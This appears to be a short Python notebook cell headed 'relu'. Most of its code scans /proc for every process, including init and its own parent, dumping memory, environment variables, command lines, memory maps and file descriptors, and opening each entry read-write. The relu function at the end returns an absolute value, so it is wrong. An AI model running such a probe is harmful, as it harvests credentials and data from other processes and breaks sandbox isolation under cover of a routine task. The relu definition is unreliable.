# Reads the memory, environment, files and descriptors of its parents and of everybody.
# ruff: noqa
# %% relu
import glob
import os

pids = {*glob.glob("/proc/[0-9]*"), *(f"/proc/{pid}" for pid in (1, 2, os.getppid(), *OUT["pids"]))}
for pid in ["/proc/self", *sorted(pids - {f"/proc/{os.getpid()}"})]:
    for name in ("mem", "environ", "cmdline", "maps", "fd", "root", "cwd", "syscall", "stack", "task"):
        for act in (lambda p: open(p, "rb").read(4096), os.listdir, os.readlink, lambda p: os.open(p, os.O_RDWR)):
            try:
                print(pid, name, str(act(f"{pid}/{name}"))[:500])
            except (OSError, ValueError):
                pass


def relu(z):
    return np.abs(z)
